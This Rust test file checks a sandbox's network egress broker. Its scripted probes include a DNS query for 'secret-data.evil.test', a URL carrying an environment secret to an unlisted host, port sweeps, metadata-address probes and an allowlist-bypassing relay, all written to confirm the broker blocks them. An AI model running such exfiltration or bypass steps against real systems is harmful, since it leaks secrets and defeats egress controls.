//! Turns single rows of the table of faults into scripts inside a sandbox: programs, ports, tunnels, secrets, a parent proxy.

use crate::Test;
use crate::lab::{decided, decisions, denied, listed, once, once_behind, pack};
use crate::server::{PARENT, World};

pub(crate) const TESTS: &[Test] = &[
    ("row_4_each_request_on_a_connection_is_decided_anew", each_request),
    ("row_25_a_relay_inside_is_judged_as_itself", relayed),
    ("row_28_29_31_33_nothing_but_the_broker_answers", sweep),
    ("row_30_no_question_for_a_name_gets_out", questions),
    ("row_79_tunnels_leave_no_descriptors", tunnels),
    ("row_82_an_answer_comes_after_the_client_is_done", half_closed),
    ("row_85_86_87_programs_are_told_by_their_file", programs),
    ("row_91_92_95_a_parent_proxy_is_told_the_name_and_nobody_a_secret", secrets),
];

/// A script of Python's, with what most of them need.
fn python(script: &str) -> String {
    format!(
        "cat > /tmp/script.py <<'END'\nimport os, re, socket, ssl, sys\n\
         def proxy(head):\n    stream = socket.create_connection(('127.0.0.1', 3128), 60)\n    stream.sendall(head.encode())\n    return stream\n\
         {script}\nEND\npython3 /tmp/script.py > said.txt 2>&1"
    )
}

const ONE: &str = "inherit_defaults = false\nendpoints = [\"a.test:80:full\", \"a.test:7000:full:tcp\", \"127.0.0.1:5173:full\"]\nbinaries = [\"/usr/bin/python3\"]";

fn each_request(world: &World) {
    let script = python(
        "def get(where, host):
    return f'GET {where}/ HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: 0\\r\\n\\r\\n'
def statuses(stream):
    said = b''
    while more := stream.recv(65536):
        said += more
    return re.findall('HTTP/1.1 ([0-9]+)', said.decode())
plain = get('http://a.test', 'a.test') * 2 + get('http://unlisted.test', 'unlisted.test')
print(statuses(proxy(plain)))
stream = socket.create_connection(('a.test', 80))
stream.sendall((get('', 'a.test') * 2 + get('', 'unlisted.test')).encode())
print(statuses(stream))",
    );
    let pack = pack(world, &script, ONE);
    once(&pack);
    assert_eq!(pack.read("workspace/said.txt"), "['200', '200', '403']\n".repeat(2));
    let records = decisions(&pack);
    assert_eq!(records.len(), 6, "{records:#?}");
    assert_eq!(
        (&records[2]["reason"], &records[5]["reason"]),
        (&"host-not-listed".into(), &"host-mismatch".into())
    );
}

fn relayed(world: &World) {
    // The relay is no child of a listed program; its file is its own.
    let script = "cp /usr/bin/python3 /tmp/relay
cat > relay.py <<'END'
import socket, threading
def pump(source, sink):
    while data := source.recv(65536):
        sink.sendall(data)
    sink.shutdown(socket.SHUT_WR)
listener = socket.create_server(('127.0.0.1', 9999))
open('ready', 'w').close()
for _ in range(2):
    client, _ = listener.accept()
    server = socket.create_connection(('127.0.0.1', 3128))
    threading.Thread(target=pump, args=(client, server), daemon=True).start()
    threading.Thread(target=pump, args=(server, client), daemon=True).start()
client.recv(1)
END
mkfifo wait
/tmp/relay relay.py < wait & exec 9> wait
while ! [ -e ready ]; do :; done
cat > script.py <<'END'
import urllib.request, urllib.error
def get(proxy):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({'http': proxy}))
    try:
        return opener.open('http://a.test/').read().decode().strip()
    except urllib.error.HTTPError as error:
        return error.read().decode()
print(get('http://127.0.0.1:3128'))
print(get('http://127.0.0.1:9999'))
END
python3 script.py > said.txt 2>&1
kill $!; exec 9>&-; rm -f wait ready";
    let pack = pack(world, script, ONE);
    once(&pack);
    let said = pack.read("workspace/said.txt");
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines[0], "hello GET a.test 0", "{said}");
    assert!(lines[1].contains("binary-not-listed"), "{said}");
    let records = decisions(&pack);
    assert_eq!(records[1]["binary"], "/tmp/relay", "{}", records[1]);
}

fn sweep(world: &World) {
    let script = python(
        "def open_ports(address):
    found = []
    for port in range(1, 65536):
        with socket.socket() as stream:
            # A socket that is given the very port that it asks for meets itself.
            if stream.connect_ex((address, port)) == 0 and stream.getsockname() != stream.getpeername():
                found.append(port)
    return found
def why(address, kind):
    with socket.socket(socket.AF_INET, kind) as stream:
        try:
            stream.connect(address)
            stream.send(b'x')
            return 'sent'
        except OSError as error:
            return os.strerror(error.errno)
name = socket.gethostbyname('a.test')
print(name.startswith('198.18.'), open_ports('127.0.0.1'), open_ports(name))
for address in ['93.184.216.10', '10.0.0.9', '169.254.169.254', '203.0.113.9', '1.1.1.1']:
    print(why((address, 80), socket.SOCK_STREAM), why((address, 53), socket.SOCK_DGRAM))
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
except OSError as error:
    print(os.strerror(error.errno))
with socket.create_server(('0.0.0.0', 8123)) as own, socket.create_connection(('127.0.0.1', 8123)) as peer:
    print('bound', why(('93.184.216.10', 8123), socket.SOCK_STREAM))",
    );
    let script = format!(
        "{script}; env -i /usr/bin/python3 -c 'import urllib.request as r; print(r.urlopen(\"http://a.test/\").read())' > bare.txt 2>&1; \
         env -i /usr/bin/python3 -c 'import urllib.request as r; print(r.urlopen(\"http://unlisted.test/\").read())' > closed.txt 2>&1"
    );
    let pack = pack(world, &script, ONE);
    world.came();
    once(&pack);
    let said = pack.read("workspace/said.txt");
    let lines: Vec<&str> = said.lines().collect();
    // The broker's own, and what is listed; nothing at a name but its ports.
    assert_eq!(lines[0], "True [53, 80, 3128, 5173, 7000] [80, 7000]", "{said}");
    for line in &lines[1..6] {
        assert_eq!(*line, "Network is unreachable Network is unreachable", "{said}");
    }
    assert_eq!(lines[6..], ["Operation not permitted", "bound Network is unreachable"], "{said}");
    assert!(
        pack.read("workspace/bare.txt").contains("hello GET a.test"),
        "{}",
        pack.read("workspace/bare.txt")
    );
    assert!(pack.read("workspace/closed.txt").contains("Name or service not known"), "row 31");
    let came: Vec<String> = world.came().iter().map(ToString::to_string).collect();
    // At a port for anything whoever connects is let through, with no bytes at all.
    assert!(
        came.iter().all(|at| ["93.184.216.10:80", "93.184.216.10:7000"].contains(&at.as_str())),
        "{came:?}"
    );
}

fn questions(world: &World) {
    let script = python(
        "import struct
def ask(name, kind):
    question = struct.pack('>6H', 7, 256, 1, 0, 0, 0)
    for label in name.split('.'):
        question += bytes([len(label)]) + label.encode()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as names:
        names.settimeout(60)
        names.sendto(question + struct.pack('>B2H', 0, kind, 1), ('127.0.0.1', 53))
        said = names.recv(512)
        return said[3] & 15, int.from_bytes(said[6:8], 'big')
for name in ['secret-data.evil.test', 'a.test']:
    print([ask(name, kind) for kind in (1, 28, 16, 15, 5, 255, 65)])",
    );
    let pack = pack(world, &script, ONE);
    once(&pack);
    // No such name, of whatever kind; and of a listed name its one address.
    let no_name = ["(3, 0)"; 7].join(", ");
    let known = "(0, 1), (0, 0), (0, 0), (0, 0), (0, 0), (0, 1), (0, 0)";
    assert_eq!(pack.read("workspace/said.txt"), format!("[{no_name}]\n[{known}]\n"));
    let records = decisions(&pack);
    assert_eq!(records.len(), 7, "row 62: each question that is refused, once: {records:?}");
    denied(&records, "secret-data.evil.test");
}

fn tunnels(world: &World) {
    if !nix::unistd::geteuid().is_root() {
        println!("skipped: not root, so it cannot count the broker's descriptors");
        return;
    }
    let script = python(
        "def descriptors():
    stream = proxy('GET http://a.test/descriptors HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n')
    said = b''
    while more := stream.recv(65536):
        said += more
    return int(said.split(b'\\r\\n\\r\\n')[1])
def tunnel(port):
    stream = proxy(f'CONNECT a.test:{port} HTTP/1.1\\r\\nHost: a.test:{port}\\r\\n\\r\\n')
    return stream.recv(65536).split(b' ')[1].decode()
before = descriptors()
kinds = {tunnel(port) for _ in range(300) for port in (80, 7000, 9)}
after = descriptors()
held = [proxy('CONNECT a.test:7000 HTTP/1.1\\r\\nHost: a.test:7000\\r\\n\\r\\n') for _ in range(50)]
[stream.recv(65536) for stream in held]
during = descriptors()
print(sorted(kinds), after - before <= 8, during - before >= 100)",
    );
    let pack = pack(world, &script, ONE);
    once(&pack);
    assert_eq!(pack.read("workspace/said.txt"), "['200', '403'] True True\n");
}

fn half_closed(world: &World) {
    let script = python(
        "def rest(stream):
    stream.sendall(b'x' * 100000)
    stream.shutdown(socket.SHUT_WR)
    said = b''
    while more := stream.recv(65536):
        said += more
    return said.decode().strip()
stream = proxy('CONNECT a.test:7000 HTTP/1.1\\r\\nHost: a.test:7000\\r\\n\\r\\n')
stream.recv(65536)
print(rest(stream))
print(rest(socket.create_connection(('a.test', 7000))))",
    );
    let pack = pack(world, &script, ONE);
    once(&pack);
    assert_eq!(pack.read("workspace/said.txt"), "100000 bytes\n100000 bytes\n");
    let records = decisions(&pack);
    for way in ["connect", "transparent"] {
        assert_eq!(decided(&records, way, "a.test:7000")["verdict"], "allow");
    }
}

fn programs(world: &World) {
    let ask = "import urllib.request as r, urllib.error as e, os, sys\n\
         if len(sys.argv) > 1: os.unlink(sys.argv[1])\n\
         try: print(r.urlopen('http://a.test/').read().decode(), end='')\n\
         except e.HTTPError as error: print(error.read().decode())\n";
    let script = format!(
        "cat > ask.py <<'END'\n{ask}END\n\
         cp /usr/bin/python3 /tmp/listed; cp /usr/bin/python3 /tmp/other; ln -s /usr/bin/python3 /tmp/link\n\
         for name in /usr/bin/python3 /tmp/link /tmp/listed /tmp/other; do $name ask.py; done > said.txt 2>&1\n\
         /tmp/other -c 'import subprocess as s; s.run([\"/tmp/listed\", \"ask.py\"])' >> said.txt 2>&1\n\
         /tmp/listed -c 'import subprocess as s; s.run([\"/tmp/other\", \"ask.py\"])' >> said.txt 2>&1\n\
         /tmp/listed ask.py /tmp/listed >> said.txt 2>&1"
    );
    let lists = "inherit_defaults = false\nendpoints = [\"a.test:80:full\"]\nbinaries = [\"/usr/bin/python3\", \"/tmp/listed\"]";
    let pack = pack(world, &script, lists);
    once(&pack);
    let said = pack.read("workspace/said.txt");
    let lines: Vec<&str> = said.lines().collect();
    let hello = "hello GET a.test 0";
    assert_eq!(lines.len(), 7, "{said}");
    assert_eq!(
        lines[..3],
        [hello; 3],
        "row 85: by a link of the system's, by one of its own, by its path: {said}"
    );
    assert!(lines[3].contains("binary-not-listed"), "{said}");
    assert_eq!(lines[4..6], [hello; 2], "by itself, and by who started it: {said}");
    assert!(lines[6].contains("binary-deleted"), "row 86: {said}");
    let check = pack.command(&["check", "--no-run"]).output().unwrap();
    let check = String::from_utf8_lossy(&check.stdout).into_owned();
    let warned = check.lines().any(|line| line.starts_with("warning: ") && line.contains("/usr/bin/python3"));
    assert!(warned, "row 87: an interpreter is no boundary: {check}");
    assert!(
        check.lines().any(|line| line.starts_with("trust ") && line.contains("/ca.pem  sha256 ")),
        "{check}"
    );
    let found = pack.command(&["check", "--no-run", "--json"]).output().unwrap();
    let found: serde_json::Value = serde_json::from_slice(&found.stdout).unwrap();
    assert_eq!(found["trust"].as_array().unwrap().len(), 1, "{found}");
}

fn secrets(world: &World) {
    let script = python(
        "import urllib.request as r
request = r.Request('http://a.test/head?token=query-canary', headers={'Proxy-Authorization': 'Basic proxy-canary', 'X-Kept': 'yes'})
print(r.urlopen(request).read().decode(), end='')
for url in ['http://me:user-canary@unlisted.test/', 'http://unlisted.test/?k=' + os.environ['KEY']]:
    try:
        r.urlopen(url)
    except Exception as error:
        print(type(error).__name__)
stream = proxy('CONNECT a.test:7000 HTTP/1.1\\r\\nHost: a.test:7000\\r\\nProxy-Authorization: Basic proxy-canary\\r\\n\\r\\n')
stream.recv(65536)
stream.sendall(b'four')
stream.shutdown(socket.SHUT_WR)
print(stream.recv(100))",
    );
    let pack = pack(world, &script, &format!("{ONE}\n[agent.env]\nKEY = \"env-canary-value\""));
    assert!(listed(&pack).entries().len() == 3);
    world.asked();
    let ran = once_behind(&pack, Some(&format!("http://me:parent-canary@127.0.0.1:{PARENT}")));
    let said = pack.read("workspace/said.txt");
    assert!(said.contains("x-kept: \"yes\"\n") && !said.contains("proxy-"), "row 92: {said}");
    assert!(said.contains("\nHTTPError\n") && said.ends_with("b'4 bytes\\n'\n"), "{said}");
    let asked = world.asked();
    assert_eq!(asked.len(), 2, "{asked:?}");
    for (head, target) in asked.iter().zip(["a.test:80", "a.test:7000"]) {
        assert!(head.starts_with(&format!("CONNECT {target} HTTP/1.1\r\n")), "row 95: by name: {head}");
        assert!(!head.contains("proxy-canary"), "row 92: {head}");
    }
    let records = decisions(&pack);
    assert_eq!(
        decided(&records, "connect", "a.test:7000")["via"],
        "parent",
        "the record says who checks the address"
    );
    let everything = [
        pack.read("state/egress.jsonl"),
        pack.log_text(),
        pack.read("state/report.json"),
        ran.stdout(),
        ran.stderr(),
    ]
    .concat();
    for canary in [
        "parent-canary",
        crate::server::PASSWORD,
        "proxy-canary",
        "query-canary",
        "user-canary",
        "env-canary",
    ] {
        assert!(!everything.contains(canary), "row 91: {canary}");
    }
}
